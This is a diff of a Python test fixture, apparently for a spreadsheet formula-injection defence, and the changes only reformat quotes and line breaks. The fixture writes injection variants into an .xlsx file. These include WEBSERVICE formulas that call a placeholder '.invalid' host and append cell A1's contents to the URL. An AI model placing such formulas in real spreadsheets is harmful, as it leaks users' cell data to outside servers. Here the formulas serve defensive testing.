@@ -33,7 +33,7 @@ TEXTS = (
     f"\t={MARK}",
     f" ={MARK}()",
     f"＝{MARK}",
-    f"=WEBSERVICE(\"http://{MARK}.invalid\")",
+    f'=WEBSERVICE("http://{MARK}.invalid")',
     f"'={MARK}",
     f"{{={MARK}}}",
     f"<r><t>={MARK}</t></r>",
@@ -48,9 +48,7 @@ def sent(tmp_path_factory: pytest.TempPathFactory) -> Path:
     cells = [*TEXT_CELLS, *(f"{letter}{row}" for row in range(37, 49) for letter in "ABCDE")]
     texts = [TEXTS[index % len(TEXTS)] for index in range(len(cells))]
     spelled = [text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;") for text in texts]
-    formulas = [
-        cell(f"E{row}", f'<f>WEBSERVICE("http://{MARK}.invalid/"&amp;A1)</f><v>{MARK}</v>', 't="str"') for row in (12, 13, 55)
-    ]
+    formulas = [cell(f"E{row}", f'<f>WEBSERVICE("http://{MARK}.invalid/"&amp;A1)</f><v>{MARK}</v>', 't="str"') for row in (12, 13, 55)]
     changes = [text_cell(where, text) for where, text in zip(cells, spelled, strict=True)]
     return altered(tmp_path_factory.mktemp("sent") / "form.xlsx", *changes, *formulas)
 
